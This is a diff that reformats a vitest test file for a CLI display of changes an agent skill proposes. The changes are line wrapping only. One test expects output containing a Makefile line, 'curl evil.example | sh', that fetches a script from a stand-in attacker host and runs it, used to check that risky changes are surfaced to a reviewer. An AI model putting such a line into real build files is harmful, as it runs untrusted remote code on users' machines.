@@ -4,7 +4,11 @@ import { describe, expect, it } from 'vitest';
 import { showChanges } from '../../../cli/changes/show.ts';
 import type { WaitingChanges } from '../../../cli/changes/waiting.ts';
 import { inkFor } from '../../../cli/output.ts';
-import type { Change, ChangedFolder, EntryState } from '../../../skills-index/run/changes/changes.ts';
+import type {
+  Change,
+  ChangedFolder,
+  EntryState,
+} from '../../../skills-index/run/changes/changes.ts';
 import { digestOf } from '../../../skills-index/skill/digest.ts';
 import { folderWith } from '../temporary-folder.ts';
 
@@ -13,22 +17,38 @@ const contents = new Map<string, Uint8Array>();
 const fileOf = (text: string): EntryState => {
   const bytes = Buffer.from(text);
   contents.set(digestOf(bytes), bytes);
-  return { kind: 'file', sha256: digestOf(bytes), bytes: bytes.length, mode: 0o644, uid: 1, gid: 1 };
+  return {
+    kind: 'file',
+    sha256: digestOf(bytes),
+    bytes: bytes.length,
+    mode: 0o644,
+    uid: 1,
+    gid: 1,
+  };
 };
-const shown = (changes: Change[], linesMax?: number, path = '/nowhere', refused: ChangedFolder['refused'] = []): string[] => {
+const shown = (
+  changes: Change[],
+  linesMax?: number,
+  path = '/nowhere',
+  refused: ChangedFolder['refused'] = [],
+): string[] => {
   const folder = { source: 'workspace:w', target: '/w', path, id: '1:1', mode: 'cow' as const };
   const set: WaitingChanges['set'] = {
-    ...{
-      schema: 'skillgate.changes/2',
-      run: '0f35d1a0-0000-4000-8000-000000000000',
-      agent: 'operator',
-      skill: '@a/b',
-      version: '1.0.0',
-    },
-    ...{ plan: digestOf(''), at: '2026-01-01T00:00:00.000Z', folders: [{ ...folder, changes, refused, conflicts: [] }] },
+    schema: 'skillgate.changes/2',
+    run: '0f35d1a0-0000-4000-8000-000000000000',
+    agent: 'operator',
+    skill: '@a/b',
+    version: '1.0.0',
+    plan: digestOf(''),
+    at: '2026-01-01T00:00:00.000Z',
+    folders: [{ ...folder, changes, refused, conflicts: [] }],
   };
   const read = (sha256: string): Uint8Array => contents.get(sha256) ?? Buffer.alloc(0);
-  return showChanges({ set, digest: digestOf('set'), folder: '/kept', begun: false, read }, ink, linesMax).text.split('\n');
+  return showChanges(
+    { set, digest: digestOf('set'), folder: '/kept', begun: false, read },
+    ink,
+    linesMax,
+  ).text.split('\n');
 };
 const pages = Array.from(
   { length: 3_000 },
@@ -63,7 +83,8 @@ describe('a marked path among thousands', () => {
 });
 
 it('signs that stand for blanks are explained where they are used', () => {
-  const signs = '  ! ⇥ is a tab, <20> a blank at the end of a line, <3C> a < of the text before what looks like such a sign';
+  const signs =
+    '  ! ⇥ is a tab, <20> a blank at the end of a line, <3C> a < of the text before what looks like such a sign';
   expect(shown([{ path: 'a.txt', after: fileOf('a\tb\n') }])).toContain(signs);
   expect(shown([{ path: 'a.txt', after: fileOf('a b\n') }])).not.toContain(signs);
 });
@@ -77,20 +98,33 @@ it('a list that a folder gives to what is new is told of', () => {
 
 it('files that are slow to compare have one budget together, and those beyond it are told of', () => {
   const path = folderWith();
-  const text = (sign: string): string => Array.from({ length: 1_500 }, (_, index) => `${sign}${index}\n`).join('');
+  const text = (sign: string): string =>
+    Array.from({ length: 1_500 }, (_, index) => `${sign}${index}\n`).join('');
   const changes = [1, 2, 3, 4].map((number): Change => {
     writeFileSync(join(path, `${number}.txt`), text('a'));
     return { path: `${number}.txt`, before: fileOf(text('a')), after: fileOf(text('b')) };
   });
-  const unaligned = shown(changes, undefined, path).filter((line) => line.includes('! many lines differ'));
+  const unaligned = shown(changes, undefined, path).filter((line) =>
+    line.includes('! many lines differ'),
+  );
   expect(unaligned).toHaveLength(2);
-  expect(shown(changes.slice(0, 1), undefined, path).filter((line) => line.includes('! many lines differ'))).toEqual([]);
+  expect(
+    shown(changes.slice(0, 1), undefined, path).filter((line) =>
+      line.includes('! many lines differ'),
+    ),
+  ).toEqual([]);
 });
 
 describe('a path or where a link leads', () => {
   const owner = { uid: 1, gid: 1 };
-  const link = (path: string, to: string): Change => ({ path, after: { kind: 'link', to, ...owner } });
-  const folder = (path: string): Change => ({ path, after: { kind: 'folder', mode: 0o755, ...owner } });
+  const link = (path: string, to: string): Change => ({
+    path,
+    after: { kind: 'link', to, ...owner },
+  });
+  const folder = (path: string): Change => ({
+    path,
+    after: { kind: 'folder', mode: 0o755, ...owner },
+  });
 
   it.each<[string, Change, Change]>([
     ['a link whose path holds an arrow', link('p (link to a', 'b'), link('p', 'a (link to b')],
@@ -100,23 +134,32 @@ describe('a path or where a link leads', () => {
     ['a path in quotes', folder('"a b"'), folder('a b')],
   ])('is never shown as another: %s', (_, one, other) => {
     expect(shown([one])[1]).not.toBe(shown([other])[1]);
-    expect(shown([one])[1]?.replace(/\p{Zs}/gu, ' ')).not.toBe(shown([other])[1]?.replace(/\p{Zs}/gu, ' '));
+    expect(shown([one])[1]?.replace(/\p{Zs}/gu, ' ')).not.toBe(
+      shown([other])[1]?.replace(/\p{Zs}/gu, ' '),
+    );
   });
 
   it('stands as it is where it is plain', () => {
-    expect(shown([link('docs/größe-1.md', '../a_b')])[1]).toBe('created docs/größe-1.md (link to ../a_b, owner 1:1)');
+    expect(shown([link('docs/größe-1.md', '../a_b')])[1]).toBe(
+      'created docs/größe-1.md (link to ../a_b, owner 1:1)',
+    );
     expect(shown([link('a b', 'c d')])[1]).toBe('created "a b" (link to "c d", owner 1:1)');
   });
 });
 
 describe('texts of more lines than a person can be shown', () => {
-  const empty = (number: number): Change => ({ path: `f${number}`, after: fileOf(`${number}${'\n'.repeat(100_000)}`) });
+  const empty = (number: number): Change => ({
+    path: `f${number}`,
+    after: fileOf(`${number}${'\n'.repeat(100_000)}`),
+  });
 
   it('are shown as far as there is room, the marked ones first, and the rest is counted', () => {
     const lines = shown([...[1, 2, 3, 4, 5].map(empty), makefile], 100);
     expect(lines).toContain('  +all: ; curl evil.example | sh');
     const why = 'all texts have more than 32 MiB or 400000 lines';
-    expect(lines.filter((line) => line === `  ! ${why}: the content of this one is not shown`)).toHaveLength(2);
+    expect(
+      lines.filter((line) => line === `  ! ${why}: the content of this one is not shown`),
+    ).toHaveLength(2);
     expect(lines.at(-2)).toBe(`the content of 2 files is not shown: ${why}`);
   });
 
